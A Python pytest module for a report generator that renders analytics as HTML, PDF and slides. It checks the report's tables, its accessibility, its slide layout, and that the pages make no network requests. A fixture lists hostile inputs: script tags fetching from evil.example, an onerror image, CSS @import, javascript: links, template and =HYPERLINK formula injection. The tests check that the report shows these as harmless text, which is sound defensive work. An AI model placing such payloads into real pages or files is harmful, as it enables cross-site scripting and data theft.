"""The report as independent readers see it: a browser with its network watched, a PDF reader, a reader of slides."""

from __future__ import annotations

import io
import re
import sys
from collections.abc import Iterator
from decimal import Decimal
from html.parser import HTMLParser
from itertools import pairwise
from pathlib import Path
from types import SimpleNamespace

import openpyxl
import pypdfium2
import pytest
import xlsxwriter
from axe_playwright_python.sync_playwright import Axe
from PIL import ImageFont
from playwright.sync_api import Browser, Page
from pptx import Presentation
from pptx.util import Emu

import vital_insights as vi
from tests.browser.conftest import (
    PATIENT,
    browser_type_launch_args,  # noqa: F401  the machine's Chromium, kept from talking to anybody
)
from tests.browser.moved import publish_three
from tests.worlds import ACME, SMALL, publish, uid
from vital_insights.charts.script import plotly_js
from vital_insights.charts.theme import LIGHT
from vital_insights.charts.wording import exact
from vital_insights.insights import Insights
from vital_insights.reports import natives, parts, pdf, slides
from vital_insights.reports.basis import in_words
from vital_insights.reports.html import html
from vital_insights.reports.report import report

LIMIT = 8_000_000  # bytes of the demo tenant's report
ODD = {
    "script": "<script>fetch('https://evil.example/a')</script>",
    "leaving": "</script><script>window.owned = 1</script>",
    "picture": '"><img src="https://evil.example/b.png" onerror="window.owned = 2">',
    "style": "</style><style>@import 'https://evil.example/c.css';</style>",
    "link": '<a href="javascript:window.owned=3">here</a> <iframe src="//evil.example/d"></iframe>',
    "template": "{{ 7 * 7 }} {% raw %} ${window.owned=4}",
    "formula": '=HYPERLINK("https://evil.example/e")',
    "arabic": "تقليل الوقت اللازم \u202e reversed",
    "emoji": "Minimize 👩🏽‍🔬 waiting & <wanting>",
    "control": "bell\x07 and escape\x1b[31m",
    "quotes": "it's \"quoted\" & 'so' on",
}
LONG = "x" * 1_000_000


class Read(HTMLParser):
    """The tables of a page by caption, each as rows of texts; scripts are no text."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tables: dict[str, list[list[str]]] = {}
        self.headings: list[str] = []
        self._inside: list[str] = []
        self._caption, self._rows = "", []
        self.feed(page)

    def handle_starttag(self, tag, attributes):
        if tag in ("meta", "link", "img", "br"):
            return
        self._inside.append(tag)
        if tag == "table":
            self._caption, self._rows = "", []
        elif tag == "tr":
            self._rows.append([])
        elif tag in ("td", "th"):
            self._rows[-1].append("")
        elif tag == "h2":
            self.headings.append("")

    def handle_endtag(self, tag):
        assert self._inside.pop() == tag, f"{tag} is not closed where it was opened"
        if tag == "table":
            self.tables[self._caption] = self._rows

    def handle_data(self, data):
        if "caption" in self._inside:
            self._caption += data
        elif "td" in self._inside or "th" in self._inside:
            self._rows[-1][-1] += data
        elif "h2" in self._inside:
            self.headings[-1] += data

    def table(self, caption: str) -> list[dict[str, str]]:
        header, *rows = next(rows for name, rows in self.tables.items() if name.startswith(caption))
        return [dict(zip(header, row, strict=True)) for row in rows]


@pytest.fixture(scope="module")
def demo(demo_warehouse: Path) -> Iterator[Insights]:
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("VITAL_WAREHOUSE", str(demo_warehouse))
        with vi.open_tenant("aldermoor") as opened:
            yield opened


@pytest.fixture(scope="module")
def told_of_demo(demo: Insights) -> parts.Report:
    return report(demo)


@pytest.fixture(scope="module")
def page_of_demo(told_of_demo: parts.Report, tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("report") / "report.html"
    path.write_text(html(told_of_demo), encoding="utf-8")
    return path


@pytest.fixture(scope="module")
def odd(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Insights]:
    """A tenant whose every text is hostile, its name among them."""
    warehouse = tmp_path_factory.mktemp("odd")
    texts = list(ODD.values())
    world = {**SMALL}
    world["jtbd_outcomes"] = [
        row | {"outcome_statement": text, "importance_score": Decimal("9.5"), "satisfaction_score": Decimal(n % 4)}
        for n, (row, text) in enumerate(zip(SMALL["jtbd_outcomes"] * 2, [*texts, LONG], strict=False))
    ]
    for n, row in enumerate(world["jtbd_outcomes"]):
        world["jtbd_outcomes"][n] = row | {"id": uid(f"odd{n}"), "outcome_id": texts[n % len(texts)]}
    world["jobs_to_be_done"] = [row | {"name": ODD["picture"]} for row in SMALL["jobs_to_be_done"]]
    names = (ODD["leaving"], ODD["formula"])
    world["org_functions"] = [row | {"name": name} for row, name in zip(SMALL["org_functions"], names, strict=True)]
    world["org_roles"] = [row | {"name": ODD["script"]} for row in SMALL["org_roles"]]
    world["personas"] = [row | {"name": ODD["control"]} for row in SMALL["personas"]]
    named = {"tenant": {"id": str(ACME), "slug": "acme", "name": ODD["leaving"], "status": "active"}}
    publish(warehouse / str(ACME), world, ACME, "acme", told=named)
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("VITAL_WAREHOUSE", str(warehouse))
        with vi.open_tenant("acme") as opened:
            yield opened


@pytest.fixture(scope="module")
def moved(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Insights]:
    """A tenant whose outcomes moved since a snapshot ten days older."""
    warehouse = tmp_path_factory.mktemp("moved")
    publish_three(warehouse, ACME, "acme")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("VITAL_WAREHOUSE", str(warehouse))
        with vi.open_tenant("acme") as opened:
            yield opened


@pytest.fixture(scope="module")
def page_of_moved(moved: Insights, tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("moved") / "report.html"
    path.write_text(html(report(moved)), encoding="utf-8")
    return path


def seen(browser: Browser, path: Path, **options) -> tuple[Page, list[str], list[str]]:
    """The page once its figures are drawn, all that it asked for, and all that it said."""
    page = browser.new_context(**{"viewport": {"width": 1280, "height": 900}} | options).new_page()
    asked: list[str] = []
    said: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.on("websocket", lambda opened: asked.append(opened.url))
    page.on("console", lambda message: said.append(message.text))
    page.on("pageerror", lambda error: said.append(str(error)))
    page.on("dialog", lambda dialog: (said.append(dialog.message), dialog.dismiss()))
    page.set_default_timeout(PATIENT)
    page.goto(path.as_uri())
    page.wait_for_selector("html[data-drawn]")
    return page, [url for url in asked if not url.startswith(("data:", "blob:")) and url != path.as_uri()], said


def number(text: str) -> Decimal:
    return Decimal(text.replace(",", ""))


def test_tables_say_what_the_metrics_say(demo: Insights, page_of_demo: Path) -> None:
    read = Read(page_of_demo.read_text(encoding="utf-8"))
    meant = {
        (row["outcome_code"], row["job_name"], row["statement"]): row for row in demo.metric("opportunity").to_dicts()
    }
    listed = read.table("Every outcome that the figures show")
    assert len(listed) == demo.metric("opportunity").height
    for row in listed:
        key = tuple(
            None if row[name] in ("none", "no job", "no statement") else row[name]
            for name in ("Code", "Job", "Outcome")
        )
        found = meant[key] if key in meant else pytest.fail(f"no outcome {key}")
        assert row["Band"] == found["band"]
        for column, name, missing in (
            ("Importance", "importance", "missing"),
            ("Satisfaction", "satisfaction", "missing"),
            ("Score", "score", "none"),
        ):
            assert row[column] == missing if found[name] is None else number(row[column]) == found[name]
    scores = [number(row["Score"]) for row in listed if row["Score"] != "none"]
    assert scores == sorted(scores, reverse=True)
    bands = {row["band"]: row for row in demo.metric("band_summary").to_dicts()}
    assert {row["Band"]: number(row["Outcomes"]) for row in read.table("Outcomes by band")} == {
        band: row["n_outcomes"] for band, row in bands.items()
    }
    firm = {row["Band"]: number(row["Stay there"]) for row in read.table("Outcomes that stay in their band")}
    assert firm == {band: row["n_firm"] for band, row in bands.items() if band != "UNSCORED"}
    kinds = dict(demo.metric("coverage_gaps").group_by("kind").len().iter_rows())
    assert sorted(number(row["How many"]) for row in read.table("The gaps by kind")) == sorted(kinds.values())
    direct = demo.sql(
        "select distinct l.persona_id, l.jtbd_id from raw.jtbd_personas as l join model.jobs as j on j.job_id = l.jtbd_id "
        "join raw.personas as p on p.id = l.persona_id and p.deleted_at is null "
        "where l.deleted_at is null and j.is_live"
    )
    of = {row["What"]: number(row["Of"]) for row in read.table("The gaps by kind")}
    assert of["direct links of a persona and a job"] == direct.height > 0
    wrong = [*demo.verdict().errored, *demo.verdict().failed("info")]
    assert [row["Why it matters"] for row in read.table("What the checks found")] == [check.because for check in wrong]


@pytest.mark.parametrize(
    ("dimension", "caption", "one"), [("role", "Roles", "Role"), ("function", "Functions", "Function")]
)
def test_groups_are_those_of_the_metric(
    demo: Insights, page_of_demo: Path, dimension: str, caption: str, one: str
) -> None:
    meant = {
        row["member_name"]: row
        for row in demo.metric("opportunity_by", where={"dimension": dimension}).to_dicts()
        if row["member"]
    }
    rows = [
        row
        for row in Read(page_of_demo.read_text(encoding="utf-8")).table(caption)
        if not row[one].startswith("in no ")
    ]
    assert len(rows) >= 10
    columns = {
        "Outcomes": "n_outcomes",
        "HIGH": "n_high",
        "HIGH for sure": "n_high_firm",
        "MEDIUM": "n_medium",
        "LOW": "n_low",
        "UNSCORED": "n_unscored",
        "Highest": "max_score",
    }
    for row in rows:
        for column, name in columns.items():
            assert number(row[column]) == meant[row[one]][name], (row[one], column)
        assert row["Mean score"] == f"{meant[row[one]]['mean_score']:.2f}"


def test_one_file_asks_nobody(browser: Browser, page_of_demo: Path) -> None:
    whole = page_of_demo.read_text(encoding="utf-8")
    assert len(whole.encode()) < LIMIT
    assert whole.count(plotly_js()) == 1
    page, asked, said = seen(browser, page_of_demo)
    assert (asked, said) == ([], [])
    assert page.locator(".chart .main-svg").count() >= 6
    page.wait_for_function("[...document.fonts].some((font) => font.status === 'loaded')")
    page.set_viewport_size({"width": 390, "height": 844})
    page.wait_for_function(
        "[...document.querySelectorAll('.chart .main-svg')].every((each) => each.clientWidth <= each.closest('.chart').clientWidth)"
        " && document.documentElement.scrollWidth === 390"
    )
    page.context.close()


@pytest.mark.parametrize(("scheme", "ground"), [("light", "rgb(252, 252, 250)"), ("dark", "rgb(17, 21, 27)")])
def test_it_is_open_to_all_on_both_grounds_and_white_on_paper(
    browser: Browser, page_of_moved: Path, scheme: str, ground: str
) -> None:
    page, asked, said = seen(browser, page_of_moved, color_scheme=scheme)
    assert (asked, said) == ([], [])
    assert page.evaluate("getComputedStyle(document.body).backgroundColor") == ground
    assert page.locator("table:not(:has(caption))").count() == 0
    levels = [int(tag[1]) for tag in page.evaluate("[...document.querySelectorAll('h1,h2,h3')].map((h) => h.tagName)")]
    assert levels[0] == 1
    assert all(after - before <= 1 for before, after in pairwise(levels))
    found = Axe().run(page, options={"resultTypes": ["violations"]})
    assert found.violations_count == 0, found.generate_report()
    page.emulate_media(media="print")
    assert page.evaluate("getComputedStyle(document.body).backgroundColor") == "rgb(255, 255, 255)"
    assert page.evaluate("getComputedStyle(document.body).color") == "rgb(27, 35, 48)"
    page.context.close()


def test_hostile_text_is_shown_and_does_nothing(browser: Browser, odd: Insights, tmp_path: Path) -> None:
    path = tmp_path / "report.html"
    path.write_text(html(report(odd, filters=[ODD["picture"]])), encoding="utf-8")
    drawings = re.findall(r'(?s)<script type="application/json">(.*?)</script>', path.read_text(encoding="utf-8"))
    assert len(drawings) >= 6
    assert not any(sign in drawing for drawing in drawings for sign in "<>&")
    page, asked, said = seen(browser, path)
    page.locator("summary").click()
    assert (asked, said) == ([], [])
    assert page.evaluate("window.owned") is None
    assert (
        page.locator("main img, iframe, main a:not([href^='#']), main script:not([type='application/json'])").count()
        == 0
    )
    cells = set(page.evaluate("[...document.querySelectorAll('td')].map((cell) => cell.textContent)"))
    for name, text in ODD.items():
        assert parts.plain(text) in cells, name
        assert name == "control" or parts.plain(text) == text  # only control characters are shown as something else
    assert "bell␇ and escape␛[31m" in cells
    assert any(cell.startswith("xxx") and cell.endswith("… (cut: 1,000,000 characters in all)") for cell in cells)
    assert page.title().startswith(f"Where to act: {ODD['leaving']}")
    page.context.close()
    deck = Presentation(io.BytesIO(slides.slides(report(odd))))
    assert deck.slides[0].shapes.title.text_frame.text.startswith("Where to act: </script>")
    charts = [shape.chart for slide in deck.slides for shape in slide.shapes if shape.has_chart]
    assert len(charts) == 4
    assert any(category.startswith("'=HYPERLINK") for category in charts[-1].plots[0].categories)
    for chart in charts:
        sheet = openpyxl.load_workbook(io.BytesIO(chart.part.chart_workbook.xlsx_part.blob)).active
        cells = [cell for row in sheet.iter_rows() for cell in row]
        assert {cell.data_type for cell in cells} <= {"s", "n"}
        assert not any(cell.hyperlink for cell in cells)


def test_what_changed_is_told_against_the_snapshot_a_week_older(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    publish_three(tmp_path, ACME, "acme")
    monkeypatch.setenv("VITAL_WAREHOUSE", str(tmp_path))
    with vi.open_tenant("acme") as opened:
        read = Read(html(report(opened)))
        now = opened.metric("opportunity")
        chosen = Read(html(report(opened, now.filter(band="HIGH"), ["band HIGH"])))
        still = Read(html(report(opened, now.filter(outcome_id=str(uid("o3"))), ["code o3"])))
    # EDITS by hand: o2 comes into HIGH, o0 leaves it, o5 gains and o7 loses its score, o4 is gone, n1 and n2 are new.
    counts = {row["Change"]: row["Outcomes"] for row in read.table("What became of the outcomes")}
    assert counts == {
        "Moved to another score": "2",
        "Appeared": "2",
        "Vanished": "1",
        "Gained a score": "1",
        "Lost the score": "1",
        "Stayed as they were": "3",
    }
    high = "2 outcomes came into HIGH"
    assert f"{high}, 2 more are new and HIGH and 2 left it since 19 Feb 2026 06:00 UTC" in read.headings
    assert (
        f"{high} and 2 more are new and HIGH since 19 Feb 2026 06:00 UTC" in chosen.headings
    )  # who left is not among them
    assert "Vanished" not in {row["Change"] for row in chosen.table("What became of the outcomes")}
    assert "Nothing changed in these outcomes since 19 Feb 2026 06:00 UTC" in still.headings
    moves = {
        row["Outcome"]: (row["Score before"], row["Score now"], row["Change"]) for row in read.table("The widest moves")
    }
    assert moves == {
        "Minimize the time of step 0": ("15.8", "6.0", "−9.8"),
        "Minimize the time of step 2": ("12.0", "17.0", "+5.0"),
    }


def test_nobody_is_called_first_who_shares_the_place(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    roles = [*SMALL["org_roles"], {"id": uid("r9"), "name": "Twin", "function_id": uid("f9")}]
    functions = [*SMALL["org_functions"], {"id": uid("f9"), "name": "Twins"}]
    links = [*SMALL["jtbd_roles"], {"jtbd_id": uid("j1"), "role_id": uid("r9")}]
    world = SMALL | {"org_roles": roles, "org_functions": functions, "jtbd_roles": links}
    publish(tmp_path / str(ACME), world, ACME, "acme")
    monkeypatch.setenv("VITAL_WAREHOUSE", str(tmp_path))
    with vi.open_tenant("acme") as opened:
        told = {section.key: section for section in report(opened).sections}
    assert told["whom"].headline == "2 functions share the most HIGH outcomes, 1 each; Field is one"
    assert told["whom"].paragraphs == ("2 roles share the most, 1 each; Rep is one.",)
    assert "No older snapshot that can be read is kept" in told["changed"].paragraphs[0]
    regions = next(each for each in told["method"].tables if each.caption.startswith("Regions"))
    assert sum(int(row[2]) for row in regions.rows) == 8  # every outcome, the two without a score among them


def test_a_mean_of_few_is_greyed_and_said_in_page_and_slide(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    publish(tmp_path / str(ACME), SMALL, ACME, "acme")
    monkeypatch.setenv("VITAL_WAREHOUSE", str(tmp_path))
    with vi.open_tenant("acme") as opened:
        made = report(opened)
        scored = {
            row["member_name"]: row["n_scored"]
            for row in opened.metric("opportunity_by", where={"dimension": "function"}).to_dicts()
        }
    functions = next(each for section in made.sections for each in section.tables if each.caption == "Functions")
    greyed = {row[0]: few for row, few in zip(functions.rows, functions.few, strict=True)}
    assert greyed == {name: scored.get(name, 1) < 5 for name in greyed}
    assert set(greyed.values()) == {True, False}
    page = html(made)
    body = page.split("<caption>Functions</caption>")[1].split("</table>")
    marked = re.findall(r'<tr class="few">\s*<td><bdi>(.*?)</bdi>', body[0])
    assert marked == [name for name, few in greyed.items() if few]
    assert functions.note in body[1].split("<table")[0]
    assert not any(each.note for section in made.sections for each in section.tables if not any(each.few))
    deck = Presentation(io.BytesIO(slides.slides(made)))
    shapes = [shape for slide in deck.slides for shape in slide.shapes]
    grid = next(shape.table for shape in shapes if shape.name == "Functions")
    inks = {row.cells[0].text: str(row.cells[0].text_frame.paragraphs[0].runs[0].font.color.rgb) for row in grid.rows}
    assert {inks[name] == LIGHT.muted.lstrip("#") for name, few in greyed.items() if few} == {True}
    assert {inks[name] == LIGHT.text.lstrip("#") for name, few in greyed.items() if not few} == {True}
    assert any(functions.note in shape.text_frame.text for shape in shapes if shape.has_text_frame)


def test_a_table_and_a_bar_of_a_slide_look_alike_in_every_program(deck) -> None:
    """No style of the program's own, a line below each row in the place the format wants, the scale below the bars."""
    shapes = [shape for slide in deck.slides for shape in slide.shapes]
    drawing = "{http://schemas.openxmlformats.org/drawingml/2006/main}"
    for shape in (shape for shape in shapes if shape.has_table):
        assert shape.table._tbl.tblPr.find(f"{drawing}tableStyleId").text == slides.PLAIN
        for cell in (cell for row in shape.table.rows for cell in row.cells):
            assert [child.tag.removeprefix(drawing) for child in cell._tc.tcPr] == ["lnB", "noFill"]
    bars = [shape.chart for shape in shapes if shape.has_chart and hasattr(shape.chart.plots[0], "overlap")]
    assert len(bars) >= 3
    for chart in bars:
        crosses = re.findall(r"<c:valAx>.*?<c:crosses val=\"(\w+)\"/>", chart._chartSpace.xml, re.DOTALL)
        assert (chart.category_axis.reverse_order, crosses) == (True, ["max"])


def test_filters_choose_and_are_said(odd: Insights, demo: Insights) -> None:
    where = {"band": ["HIGH"], "outcome_type": ["cost"]}
    shown = demo.metric("opportunity", where=where)
    made = report(demo, shown, in_words(where))
    read = Read(html(made))
    assert made.about["Filters"] == "band HIGH, outcome type cost"
    assert made.about["Shown"] == f"{shown.height:,} of 2,422 outcomes"
    assert {row["Band"] for row in read.table("Every outcome")} == {"HIGH"}
    assert len(read.table("Every outcome")) == shown.height
    nothing = report(odd, odd.metric("opportunity").clear(), ["band LOW"])
    assert "0 of 12 outcomes are HIGH opportunities within the filters" in Read(html(nothing)).headings
    assert slides.slides(nothing)
    assert in_words({"domain": [None], "band": "LOW", "job": []}) == ("no domain stated", "band LOW", "no job at all")


def test_a_pdf_has_every_headline_and_no_page_is_empty(run, demo_warehouse: Path, tmp_path: Path) -> None:
    code, out, err = run("report", "quillmark", "-o", "told.pdf", VITAL_WAREHOUSE=str(demo_warehouse))
    assert code == 0, err
    assert "told.pdf" in out
    pages = pypdfium2.PdfDocument(tmp_path / "told.pdf")
    texts = [" ".join(page.get_textpage().get_text_bounded().split()) for page in pages]
    with vi.open_tenant("quillmark") as opened:
        made = report(opened)
    assert f"Writing {len(made.sections)} chapters" in err
    whole = " ".join(texts)
    for section in made.sections:
        assert section.headline in whole
    assert all(len(text) > 120 for text in texts)
    assert {tuple(round(side) for side in page.get_size()) for page in pages} == {(595, 842)}  # A4, upright
    assert len(pages) < 30
    assert all(f"{n} of {len(pages)}" in text for n, text in enumerate(texts, start=1))


@pytest.fixture(scope="module")
def deck(told_of_demo: parts.Report):
    return Presentation(io.BytesIO(slides.slides(told_of_demo)))


def test_slides_say_the_findings_with_charts_that_can_be_edited(
    demo: Insights, told_of_demo: parts.Report, deck
) -> None:
    titles = [slide.shapes.title.text_frame.text for slide in deck.slides]
    made = told_of_demo
    assert [section.headline for section in made.sections if section.key in slides.TABLES] == [
        title for title in titles if title in {section.headline for section in made.sections}
    ]
    for slide in deck.slides:
        notes = slide.notes_slide.notes_text_frame.text
        assert "Formula: opportunity = importance + max(importance - satisfaction, 0)" in notes
        assert demo.snapshot.id in notes
    charts = {shape.name: shape.chart for slide in deck.slides for shape in slide.shapes if shape.has_chart}
    by_band = {
        series.name.split(" ")[0]: len(list(series.values))
        for series in charts["Where every outcome lies"].plots[0].series
    }
    scored = demo.metric("opportunity").filter(~demo.metric("opportunity")["band"].eq("UNSCORED"))
    for band in ("HIGH", "MEDIUM", "LOW"):
        assert by_band[band] == scored.filter(band=band).select("importance", "satisfaction").n_unique()
    functions = charts["Share of each band by function"].plots[0]
    meant = {
        row["member_name"]: row for row in demo.metric("opportunity_by", where={"dimension": "function"}).to_dicts()
    }
    for place, name in enumerate(functions.categories):
        row = meant[name.rpartition(" (")[0]]
        told = {series.name: series.values[place] for series in functions.series}
        assert told == {
            "HIGH": row["n_high"],
            "MEDIUM": row["n_medium"],
            "LOW": row["n_low"],
            "UNSCORED": row["n_unscored"],
        }


def test_no_text_of_a_slide_leaves_its_place(deck, odd: Insights) -> None:
    for each in (deck, Presentation(io.BytesIO(slides.slides(report(odd))))):
        for slide in each.slides:
            for shape in slide.shapes:
                assert shape.left >= 0
                assert shape.top >= 0
                assert shape.left + shape.width <= each.slide_width
                assert shape.top + shape.height <= Emu(int(7.35 * 914_400))
                if shape.has_text_frame:
                    assert height_of(shape.text_frame, shape.width) <= shape.height, shape.text_frame.text
                elif shape.has_table:
                    assert sum(row.height for row in shape.table.rows) <= shape.height + 9_525
                    for row in shape.table.rows:
                        for column, cell in zip(shape.table.columns, row.cells, strict=True):
                            assert height_of(cell.text_frame, column.width) <= row.height, cell.text_frame.text


def height_of(frame, width: int) -> float:
    """EMU that a text takes in a font as wide as Arial, broken at spaces and where a word is longer than a line."""
    room = (width - frame.margin_left - frame.margin_right) / 12_700
    points = 0.0
    for paragraph in frame.paragraphs:
        size = paragraph.runs[0].font.size.pt if paragraph.runs else 12
        font = wide_font(size, bool(paragraph.runs and paragraph.runs[0].font.bold))
        lines, used = 1, 0.0
        for word in "".join(run.text for run in paragraph.runs).split(" "):
            wide = font.getlength(word + " ")
            if used and used + font.getlength(word) > room:
                lines, used = lines + 1, 0.0
            lines += int(font.getlength(word) // room) if font.getlength(word) > room else 0
            used += wide % room if wide > room else wide
        points += lines * size * 1.17 + (paragraph.space_after.pt if paragraph.space_after else 0)
    return points * 12_700 + frame.margin_top + frame.margin_bottom


def wide_font(size: float, bold: bool):
    try:
        return ImageFont.truetype(f"LiberationSans-{'Bold' if bold else 'Regular'}.ttf", size)
    except OSError:
        return ImageFont.load_default(size)


def test_bad_input_is_told_before_any_work(run, tmp_path: Path) -> None:
    warehouse = tmp_path / "warehouse"
    publish(warehouse / str(ACME), SMALL, ACME, "acme")
    place = {"VITAL_WAREHOUSE": str(warehouse)}
    for words, code, told in (
        (("acmee", "-o", "a.html"), 13, "did you mean acme?"),
        (("acme", "-o", "nowhere/a.html"), 2, "nowhere/a.html cannot be written"),
        (("acme", "-o", "a.docx"), 2, "-o report.html"),
        (("acme", "-o", "a.html", "--format", "pdf"), 2, "a.pdf"),
        (("acme", "-o", "a.html", "--where", "bnd=HIGH"), 2, "did you mean band"),
        (("acme", "-o", "a.html", "--where", "band=HIHG"), 2, "did you mean HIGH"),
        (("acme", "-o", "a.html", "--where", "band"), 2, "--where band=HIGH"),
        (("acme", "-o", "a.html", "--where", "band=UNSCORED", "--where", "region=underserved"), 2, "No outcome fits"),
        (("acme", "-o", "a.html", "--snapshot", "snapshot-0"), 2, "There is no snapshot"),
    ):
        ended, out, err = run("report", *words, **place)
        assert (ended, out) == (code, ""), err
        assert told in err
    run("report", "acme", "-o", "a.html", VITAL_WAREHOUSE=str(tmp_path / "empty"))
    assert [each.name for each in tmp_path.iterdir()] == ["warehouse"]
    ended, _, err = run("report", "acme", "-o", "a.html", VITAL_WAREHOUSE=str(tmp_path / "empty"))
    assert ended == 13
    assert "vital-insights refresh" in err


def test_what_is_missing_is_named_and_nothing_is_left_behind(
    run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    warehouse = tmp_path / "warehouse"
    publish(warehouse / str(ACME), SMALL, ACME, "acme")
    monkeypatch.setitem(sys.modules, "pptx", None)
    code, _, err = run("report", "acme", "-o", "a.pptx", VITAL_WAREHOUSE=str(warehouse))
    assert code == 3
    assert "pip install 'vital-insights[pptx]'" in err
    empty = tmp_path / "bin"
    empty.mkdir()
    code, _, err = run("report", "acme", "-o", "a.pdf", VITAL_WAREHOUSE=str(warehouse), PATH=str(empty))
    assert code == 3
    assert "apt-get install chromium" in err
    broken = empty / "chromium"
    broken.write_text("#!/bin/sh\nexit 7\n")
    broken.chmod(0o755)
    code, _, err = run("report", "acme", "-o", "a.pdf", VITAL_WAREHOUSE=str(warehouse), PATH=f"{empty}")
    assert code == 3
    assert "ended with code 7" in err
    broken.write_text("#!/bin/sh\nexec /bin/sleep 5\n")
    monkeypatch.setattr(pdf, "PATIENCE", 0.2)
    code, _, err = run("report", "acme", "-o", "a.pdf", VITAL_WAREHOUSE=str(warehouse), PATH=f"{empty}")
    assert (code, "did not print the report within 0.2 s" in err, "-o report.html" in err) == (3, True, True), err
    assert {each.name for each in tmp_path.iterdir()} == {"warehouse", "bin"}


@pytest.mark.parametrize(
    "name", ["Care: home", "http://a.example", "FTPS://a", "file://a", "mailto:a", "internal:A1", "=1+1"]
)
def test_a_name_beside_a_bar_is_no_link_and_keeps_its_colon(name: str) -> None:
    made = io.BytesIO()
    with xlsxwriter.Workbook(made) as book:
        book.add_worksheet().write(0, 0, natives._inert(name))
    cell = openpyxl.load_workbook(made).active["A1"]
    assert (cell.data_type, cell.hyperlink) == ("s", None)
    assert cell.value == (name if name == "Care: home" else f"'{name}")


def test_the_same_snapshot_gives_the_same_file(odd: Insights) -> None:
    assert html(report(odd)) == html(report(odd))
    assert parts.cell(Decimal("12.004000")) == exact(Decimal("12.004")) == "12.004"
    assert [parts.cell(value, "unknown") for value in (None, "", True, 2.5, 1234)] == [
        "unknown",
        "unknown",
        "yes",
        "2.50",
        "1,234",
    ]


def test_the_button_gives_the_report_of_the_page_to_members_only(
    odd: Insights, monkeypatch: pytest.MonkeyPatch
) -> None:
    from tests.browser.conftest import DASHBOARDS

    monkeypatch.syspath_prepend(str(DASHBOARDS))
    import downloads
    import streamlit as st

    made = []
    shut = []

    def drawn(label, data, name, *_, disabled, **__):
        made.append((label, data, name))
        shut.append(disabled)

    monkeypatch.setattr(st, "download_button", drawn)
    monkeypatch.setattr(downloads.words, "file_stem", lambda name: f"acme-{name}")
    view = SimpleNamespace(
        data=SimpleNamespace(insights=odd),
        shown=odd.metric("opportunity").head(2),
        selection=SimpleNamespace(words=["band HIGH"]),
    )
    for welcome in (True, False):
        monkeypatch.setattr(st, "session_state", {"provenance": SimpleNamespace(welcome=lambda said=welcome: said)})
        downloads.report(view)
    (label, told, name), (_, refused, _) = made
    assert (label, name) == ("Report", "acme-report.html")
    assert len(Read(told().decode()).table("Every outcome")) == 2
    with pytest.raises(PermissionError):
        refused()
    view.shown = view.shown.clear()
    downloads.report(view)
    assert shut == [False, False, True]  # about nothing there is nothing to tell
